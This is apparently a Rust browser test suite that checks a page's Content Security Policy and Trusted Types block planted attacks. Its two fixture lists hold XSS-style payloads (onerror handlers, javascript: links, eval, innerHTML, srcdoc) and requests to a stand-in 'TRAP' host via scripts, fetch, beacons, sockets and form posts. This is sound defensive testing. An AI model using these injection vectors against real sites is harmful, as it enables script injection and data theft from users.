//! What the page's policy stops: attacks are planted in the page's own world, and in the document that the server sends.
//! That normal use breaks nothing of the policy is held by every test: the harness counts a violation as an error
//! (`harness_holds::a_violation_of_the_policy_fails_the_test`).

use std::collections::BTreeSet;

use serde_json::{Value, json};

use super::harness::{Answer, Page, Proxy, Screen, World, test};

/// Keeps what was run and what was forbidden, from the first script of a document on.
const WATCH: &str = "window.ran = []; window.forbidden = [];
    addEventListener('securitypolicyviolation', event => forbidden.push(event.effectiveDirective));";

const TRUSTED: &str = "require-trusted-types-for";

/// What is tried, with `TRAP` for a server of somebody else's, and the directives that may stop it.
type Attack = (&'static str, &'static str, &'static [&'static str]);

const IN_THE_PAGE: &[Attack] = &[
    (
        "an inline script",
        "const it = make('script'); it.append('ran.push(1)'); put(it)",
        &["script-src-elem", TRUSTED],
    ),
    (
        "an inline script by its text",
        "const it = make('script'); it.textContent = 'ran.push(1)'; put(it)",
        &[TRUSTED],
    ),
    (
        "a handler in an attribute",
        "const it = make('button'); it.setAttribute('onclick', 'ran.push(1)'); put(it); it.click()",
        &["script-src-attr", TRUSTED],
    ),
    (
        "a javascript: link",
        "const it = make('a'); it.href = 'javascript:ran.push(1)'; put(it); it.click()",
        &["script-src-elem", "script-src", TRUSTED],
    ),
    ("eval", "eval('ran.push(1)')", &["script-src", TRUSTED]),
    ("new Function", "new Function('ran.push(1)')()", &["script-src", TRUSTED]),
    ("a timer of text", "setTimeout('ran.push(1)')", &["script-src", TRUSTED]),
    ("innerHTML", "make('p').innerHTML = '<img src=x onerror=ran.push(1)>'", &[TRUSTED]),
    ("outerHTML", "const it = make('p'); put(it); it.outerHTML = '<b>x</b>'", &[TRUSTED]),
    (
        "insertAdjacentHTML",
        "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=ran.push(1)>')",
        &[TRUSTED],
    ),
    ("document.write", "document.write('<b>x</b>')", &[TRUSTED]),
    ("a parsed document", "new DOMParser().parseFromString('<b>x</b>', 'text/html')", &[TRUSTED]),
    ("a fragment", "document.createRange().createContextualFragment('<b>x</b>')", &[TRUSTED]),
    ("srcdoc", "make('iframe').srcdoc = '<script>parent.ran.push(1)</script>'", &[TRUSTED]),
    (
        "another policy of trusted types",
        "trustedTypes.createPolicy('own', { createHTML: text => text })",
        &["trusted-types"],
    ),
    ("a script from elsewhere", "const it = make('script'); it.src = 'TRAP/a.js'; put(it)", &[TRUSTED]),
    ("an import from elsewhere", "import('TRAP/a.js').catch(() => 0)", &["script-src-elem"]),
    ("a worker", "new Worker('TRAP/a.js')", &[TRUSTED]),
    ("fetch", "fetch('TRAP/a').catch(() => 0)", &["connect-src"]),
    ("a beacon", "navigator.sendBeacon('TRAP/a', 'x')", &["connect-src"]),
    ("a socket", "new WebSocket('TRAP/a'.replace('http', 'ws'))", &["connect-src"]),
    ("an event source", "new EventSource('TRAP/a')", &["connect-src"]),
    ("an image", "const it = make('img'); it.src = 'TRAP/a.png'; put(it)", &["img-src"]),
    ("a sound", "const it = make('audio'); it.src = 'TRAP/a.ogg'; put(it)", &["media-src"]),
    (
        "a font",
        "document.fonts.add(new FontFace('a', 'url(TRAP/a.woff2)')); document.fonts.load('12px a').catch(() => 0)",
        &["font-src"],
    ),
    (
        "a stylesheet",
        "const it = make('link'); it.rel = 'stylesheet'; it.href = 'TRAP/a.css'; put(it)",
        &["style-src-elem"],
    ),
    ("a style", "const it = make('style'); it.append('p { color: red }'); put(it)", &["style-src-elem"]),
    (
        "a style in an attribute",
        "const it = make('p'); it.setAttribute('style', 'color: red'); put(it)",
        &["style-src-attr"],
    ),
    (
        "a form",
        "const it = make('form'); it.action = 'TRAP/a'; it.method = 'post'; put(it); it.submit()",
        &["form-action"],
    ),
    ("a frame", "const it = make('iframe'); it.src = 'TRAP/a'; put(it)", &["frame-src"]),
    ("an object", "const it = make('object'); it.data = 'TRAP/a'; put(it)", &[TRUSTED]),
    ("another base", "const it = make('base'); it.href = 'TRAP/'; document.head.append(it)", &["base-uri"]),
];

const IN_THE_DOCUMENT: &[Attack] = &[
    ("an inline script", "<script>ran.push(1)</script>", &["script-src-elem"]),
    ("an inline module", "<script type='module'>ran.push(1)</script>", &["script-src-elem"]),
    ("a script from elsewhere", "<script src='TRAP/a.js'></script>", &["script-src-elem"]),
    ("a script as data", "<script src='data:text/javascript,ran.push(1)'></script>", &["script-src-elem"]),
    (
        "a handler",
        "<img src='/icon-512.png' onload='ran.push(1)' onerror='ran.push(1)'>",
        &["script-src-attr"],
    ),
    ("a handler of a drawing", "<svg onload='ran.push(1)'></svg>", &["script-src-attr"]),
    (
        "a javascript: link",
        "<a id='planted' href='javascript:ran.push(1)'>x</a>",
        &["script-src-elem", "script-src"],
    ),
    ("another base", "<base href='TRAP/'>", &["base-uri"]),
    ("a frame", "<iframe src='TRAP/a'></iframe>", &["frame-src"]),
    (
        "a frame of a script",
        "<iframe src='javascript:parent.ran.push(1)'></iframe>",
        &["script-src-elem", "frame-src"],
    ),
    ("an object", "<object data='TRAP/a'></object>", &["object-src"]),
    ("an image", "<img src='TRAP/a.png'>", &["img-src"]),
    ("a form", "<form id='planted' method='post' action='TRAP/a'></form>", &["form-action"]),
    ("a stylesheet", "<link rel='stylesheet' href='TRAP/a.css'>", &["style-src-elem"]),
    ("a style", "<style>p { color: red }</style>", &["style-src-elem"]),
    ("a style in an attribute", "<p style='color: red'>x</p>", &["style-src-attr"]),
];

async fn open(world: &World, address: String) -> std::sync::Arc<Page> {
    let page = world.browser_at(address, Screen::DESK).await;
    page.before_documents(WATCH).await;
    // What is tried here is told in the log.
    for words in [
        "ontent",
        "TrustedHTML",
        "TrustedScript",
        "Trusted Type",
        "net::ERR_",
        "disallowed",
        "evaluated",
        "Refused",
    ] {
        page.allow_log(words);
    }
    page
}

/// Waits until one of these directives has stopped something, and gives back which.
async fn stopped(page: &Page, name: &str, by: &[&str]) -> String {
    let found = async || {
        let forbidden = page.evaluate("window.forbidden ?? []").await;
        let forbidden = forbidden.as_array().cloned().unwrap_or_default();
        forbidden.iter().filter_map(Value::as_str).find(|one| by.contains(one)).map(str::to_owned)
    };
    page.until(&format!("{name} is stopped by {by:?}"), async || found().await.is_some()).await;
    found().await.expect("it was there")
}

/// Nothing ran, nobody else was asked, and the console still stands.
async fn stands(page: &Page, trap: &Proxy, name: &str) {
    assert_eq!(page.evaluate("window.ran").await, json!([]), "{name} ran");
    let asked: Vec<String> = trap.asked().iter().map(|request| request.target.clone()).collect();
    assert!(asked.is_empty(), "{name}: somebody else was asked for {asked:?}");
    page.heading("Where do you want to go?").shown().await;
}

#[test]
fn rule_14_what_is_planted_in_the_page_is_stopped_and_told() {
    test(async |world| {
        let trap = Proxy::start(None);
        let page = open(world, world.sandbox().address()).await;
        page.goto("/").await;
        page.heading("Where do you want to go?").shown().await;
        let mut directives = BTreeSet::new();
        for (name, script, by) in IN_THE_PAGE {
            let script = script.replace("TRAP", &trap.address());
            // From a timer: what devtools evaluate themselves may use eval.
            let planted = format!(
                "(() => {{ window.forbidden = []; const make = name => document.createElement(name);
                    const put = it => document.body.append(it); setTimeout(() => {{ {script} }}); }})()"
            );
            page.evaluate(&planted).await;
            directives.insert(stopped(&page, name, by).await);
            stands(&page, &trap, name).await;
        }
        assert!(directives.len() >= 10, "many directives had a part in it: {directives:?}");
    });
}

#[test]
fn rule_14_what_is_planted_in_the_document_is_stopped_and_told() {
    test(async |world| {
        let (trap, proxy) = (Proxy::start(None), Proxy::start(Some(&world.sandbox().address())));
        let sent = reqwest::get(world.sandbox().address()).await.expect("the sandbox answers");
        let policy = sent.headers()["content-security-policy"].to_str().expect("a text").to_owned();
        let document = sent.text().await.expect("a text");
        let page = open(world, proxy.address()).await;
        for (name, markup, by) in IN_THE_DOCUMENT {
            let markup = markup.replace("TRAP", &trap.address());
            let (before, after) = document.split_once("</head>").expect("a head");
            // A base counts in the head, everything else does anywhere.
            let document = format!("{before}{markup}</head>{after}");
            let headers =
                format!("content-type: text/html; charset=utf-8\r\ncontent-security-policy: {policy}\r\n");
            proxy.answer("GET", "/", Answer::with("200 OK", &headers, document));
            page.goto("/").await;
            page.heading("Where do you want to go?").shown().await;
            page.evaluate(
                "(() => { const it = document.getElementById('planted'); it?.click?.(); it?.submit?.(); })()",
            )
            .await;
            stopped(&page, name, by).await;
            stands(&page, &trap, name).await;
        }
    });
}
